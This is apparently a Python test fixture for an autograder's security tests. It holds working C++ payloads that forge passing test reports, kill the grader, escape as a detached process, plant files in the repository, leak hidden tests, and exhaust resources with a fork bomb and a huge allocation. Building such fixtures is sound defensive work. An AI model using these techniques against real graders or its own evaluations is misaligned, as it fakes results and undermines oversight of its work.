"""Attacks on the grader, written as a student would write them: C++ code put
into a solution region of a chapter. tests/tools/test_grade.py builds them
into submissions and checks that none gains a point or changes a file.

The code runs inside a function of the book (a solution region is a piece of
a function body), where no header can be included and no `asm` written (the
grader compiles neither, tools/grading/compile_wall.py): it makes Linux system calls
through libc's `syscall` (x86-64 numbers), as an attacker who has read the
grader would. Each
attack runs once, the first time the region runs, and then throws: it solves
nothing, so any point it gets is a point stolen.

The paths an attack aims at are given to it (the repository, the results
directory, the cache): the grader's layout is public, so a real attack
would know them too.
"""

# Raw system calls, a directory walker and small helpers, as one block of
# statements; `lrtPayload` follows it.
PRELUDE = r'''
static int lrtAttackRuns = 0;
if (lrtAttackRuns++ == 0) {
// ::syscall is declared only after the book's header: a call that names
// it must be looked up where the template is instantiated, which an
// argument of a global type (::div_t, through the `...`) makes happen.
auto lrtCall = [](auto global, long n, long a, long b, long c) -> long {
    return syscall(n, a, b, c, global);
};
auto sys = [&](long n, long a = 0, long b = 0, long c = 0) -> long {
    return lrtCall(::div_t{}, n, a, b, c);
};
auto len = [](const char *s) { long n = 0; while (s[n]) ++n; return n; };
auto put = [&](const char *path, const char *text) {   // O_WRONLY|O_CREAT|O_TRUNC
    long fd = sys(2, (long)path, 01101, 0644);
    if (fd >= 0) { sys(1, fd, (long)text, len(text)); sys(3, fd); }
};
auto append = [&](const char *path, const char *text) {  // O_WRONLY|O_APPEND
    long fd = sys(2, (long)path, 02001, 0);
    if (fd >= 0) { sys(1, fd, (long)text, len(text)); sys(3, fd); }
};
static char buf[65536];
auto slurp = [&](const char *path) -> long {     // the file's bytes into buf
    long fd = sys(2, (long)path, 0, 0), n = 0;
    if (fd < 0) return -1;
    for (long r; n < (long)sizeof(buf) - 1 && (r = sys(0, fd, (long)(buf + n),
                                                 (long)sizeof(buf) - 1 - n)) > 0;)
        n += r;
    sys(3, fd);
    buf[n] = 0;
    return n;
};
auto cat = [](char *out, const char *a, const char *b) {
    long i = 0;
    for (; *a; ++a) out[i++] = *a;
    for (; *b; ++b) out[i++] = *b;
    out[i] = 0;
};
auto startsWith = [](const char *s, const char *p) {
    for (; *p; ++p, ++s) if (*s != *p) return false;
    return true;
};
// Calls f(name) for every entry of a directory (getdents64).
auto eachEntry = [&](const char *dir, auto &&f) {
    static char d[32768];
    long fd = sys(2, (long)dir, 0200000, 0);     // O_DIRECTORY
    if (fd < 0) return;
    for (long n; (n = sys(217, fd, (long)d, sizeof(d))) > 0;)
        for (long at = 0; at < n;) {
            unsigned short reclen = *(unsigned short *)(d + at + 16);
            f((const char *)(d + at + 19));
            at += reclen;
        }
    sys(3, fd);
};
// Calls f(pid, args, length) for every process whose command line it can read.
auto eachProcess = [&](auto &&f) {
    eachEntry("/proc", [&](const char *name) {
        if (name[0] < '1' || name[0] > '9') return;
        static char path[256];
        cat(path, "/proc/", name);
        cat(path, path, "/cmdline");
        long n = slurp(path);
        if (n > 0) {
            long pid = 0;
            for (const char *c = name; *c; ++c) pid = pid * 10 + (*c - '0');
            f(pid, buf, n);
        }
    });
};
// The argument after the one that starts with `flag` (or the rest of that
// argument when it is flag=value), in any process: where the grader's
// results go, for example.
auto findArgument = [&](const char *flag, char *out) {
    out[0] = 0;
    eachProcess([&](long, const char *args, long n) {
        for (const char *a = args; a < args + n; a += len(a) + 1) {
            if (!startsWith(a, flag)) continue;
            const char *value = a[len(flag)] ? a + len(flag) : a + len(a) + 1;
            if (value < args + n) cat(out, value, "");
        }
    });
};
'''

EPILOGUE = '}\n'


def cpp_string(text):
    return '"' + text.replace('\\', '\\\\').replace('"', '\\"') + '"'


def payload(body, **paths):
    """The region code of an attack: PRELUDE, the attack's statements (with
    {name} replaced by the C++ string of paths[name]), EPILOGUE."""
    for name, value in paths.items():
        body = body.replace('{%s}' % name, cpp_string(value))
    return PRELUDE + body + EPILOGUE


# The attacks of issue 24, one statement block each. Paths: repo (the
# repository), out (the results directory of this submission), marker (a
# file outside everything the grader owns).
ATTACKS = {
    # 1. A passing report where the grader reads verdicts: the test named
    # by --gtest_filter, written to the --gtest_output file, then an exit
    # before anything can contradict it. The same for --lrt-results.
    'forged_report': r'''
static char where[4096], test[4096];
findArgument("--gtest_output=json:", where);
findArgument("--gtest_filter=", test);
if (where[0] && test[0]) {
    static char json[16384];
    long dot = 0;
    while (test[dot] && test[dot] != '.') ++dot;
    test[dot] = 0;
    cat(json, "{\"testsuites\": [{\"name\": \"", test);
    cat(json, json, "\", \"testsuite\": [{\"name\": \"");
    cat(json, json, test + dot + 1);
    cat(json, json, "\", \"status\": \"RUN\", \"result\": \"COMPLETED\"}]}]}");
    put(where, json);
    put({marker}, "forged");
    sys(231, 0);                                       // exit_group(0)
}
findArgument("--lrt-results=", where);
if (where[0]) {
    put(where, "{\"test\": \"x\", \"passed\": true}\n");
    put({marker}, "forged");
}
''',
    # 2. Kill the grader that runs this test (the parent), after reading on
    # its command line where it writes the results, and write a full score
    # there.
    'killed_grader': r'''
static char path[4096], out[4096];
long parent = sys(110);                                // getppid()
char number[24];
long k = 22;
number[23] = 0;
for (long p = parent; k >= 0 && (p > 0 || k == 22); p /= 10) number[k--] = char('0' + p % 10);
cat(path, "/proc/", number + k + 1);
cat(path, path, "/cmdline");
long n = slurp(path);
out[0] = 0;
for (const char *a = buf; n > 0 && a < buf + n; a += len(a) + 1)
    if (startsWith(a, "--out") && a + len(a) + 1 < buf + n) cat(out, a + len(a) + 1, "");
sys(62, parent, 9);                                    // kill(parent, SIGKILL)
if (out[0]) {
    cat(path, out, "/results.json");
    put(path, "{\"score\": 7, \"max_score\": 7, \"tests\": [], \"extra_data\": "
              "{\"exercises\": [{\"chapter\": \"05\", \"exercise\": \"ex-5.9\", "
              "\"points\": 7, \"max_points\": 7}]}}");
    put({marker}, "killed");
}
''',
    # 3. A process that leaves the session, outlives the test, and rewrites
    # the results after the grader has finished.
    'escaped_process': r'''
if (sys(57) == 0) {                                    // fork()
    sys(112);                                          // setsid()
    sys(57);                                           // and once more
    long ts[2] = {4, 0};
    sys(35, (long)ts, 0);                              // sleep 4 s
    static char path[4096];
    cat(path, {out}, "/results.json");
    put(path, "{\"score\": 7, \"max_score\": 7, \"tests\": []}");
    put({marker}, "escaped");
    sys(60, 0);
}
''',
    # 4. Write where the next build or the next student would pick it up.
    'writes_anywhere': r'''
static char path[4096];
cat(path, {repo}, "/tests/ch05/test_zz_attack.cpp");
put(path, "#include <gtest/gtest.h>\nTEST(Attack, Planted) {}\n");
cat(path, {repo}, "/tests/hidden/ch05/test_ex5_hidden.cpp");
append(path, "\n// planted\n");
cat(path, {repo}, "/tools/grading/grade.py");
append(path, "\n# planted\n");
eachEntry({cache}, [&](const char *name) {
    static char entry[4096], file[4096];
    cat(entry, {cache}, "/");
    cat(entry, entry, name);
    cat(file, entry, "/judge");
    put(file, "#!/bin/sh\nexit 0\n");
    cat(file, entry, "/worker");
    put(file, "#!/bin/sh\nexit 0\n");
    if (startsWith(name, "verdicts-")) put(entry, "[[\"PASS\", \"\"]]");
});
put({marker}, "written");
''',
    # 5. Print the hidden tests into the feedback: found from the repository
    # and from /proc/self/exe, thrown as an exception's message.
    'hidden_leak': r'''
static char path[4096];
cat(path, {repo}, "/tests/hidden/ch05/test_ex5_hidden.cpp");
long n = slurp(path);
if (n <= 0) {
    long m = sys(89, (long)"/proc/self/exe", (long)path, 4000);   // readlink
    if (m > 0) {
        path[m] = 0;
        for (long i = m; i > 0; --i) if (path[i] == '/') { path[i] = 0; break; }
        cat(path, path, "/../../tests/hidden/ch05/test_ex5_hidden.cpp");
        n = slurp(path);
    }
}
if (n > 0) {
    put({marker}, "read");
    throw std::runtime_error(std::string(buf, n > 3000 ? 3000 : n));
}
''',
    # A fork bomb: processes that fork, and wait, until no more can start.
    'fork_bomb': r'''
for (int i = 0; i < 100000; ++i)
    if (sys(57) == 0) {
        long ts[2] = {1000, 0};
        sys(35, (long)ts, 0);
        sys(60, 0);
    }
''',
}

# Attacks that act on every call, not once.
EVERY_CALL = {
    # 20 GB, touched.
    'huge_allocation': r'''
char *huge = new char[20ull << 30];
for (unsigned long long k = 0; k < (20ull << 30); k += 4096) huge[k] = 1;
''',
}

# 6. Answers by test name: right only where a command line it can see, or its
# environment, names an ex-5.10 test; otherwise wrong (the stub's throw).
ANSWERS_BY_NAME = r'''
static bool named = false;
''' + PRELUDE + r'''
eachProcess([&](long, const char *args, long n) {
    for (const char *a = args; a < args + n; ++a)
        if (startsWith(a, "Ex5_10")) named = true;
});
if (slurp("/proc/self/environ") > 0)
    for (const char *a = buf; *a || a[1]; ++a)
        if (startsWith(a, "Ex5_10")) named = true;
}
if (!named) throw std::logic_error("attack only: no solution here");
Float invD = invDir[i];
int isNeg = dirIsNeg[i];
'''

# After an attack, the region of ex-5.10 fails as its stub does (and
# declares what the code after it uses).
FAIL_LIKE_THE_STUB = r'''
throw std::logic_error("attack only: no solution here");
Float invD = 0;
int isNeg = 0;
(void)invDir;
(void)dirIsNeg;
'''


def attack_code(name, **paths):
    """The region code of ex-5.10 (<<Look up the reciprocal direction and its
    sign on axis i>>) for an attack."""
    if name == 'answers_by_name':
        return ANSWERS_BY_NAME
    if name in EVERY_CALL:
        return EVERY_CALL[name] + FAIL_LIKE_THE_STUB
    return payload(ATTACKS[name], **paths) + FAIL_LIKE_THE_STUB


# Code that makes the build show a file's text, if the compiler can read it.
def compile_leak(repo):
    hidden = repo + '/tests/hidden/ch05/test_ex5_hidden.cpp'
    return ('#include %s\n__asm__(".incbin \\"%s\\"");\n' % (cpp_string(hidden), hidden)
            + FAIL_LIKE_THE_STUB)
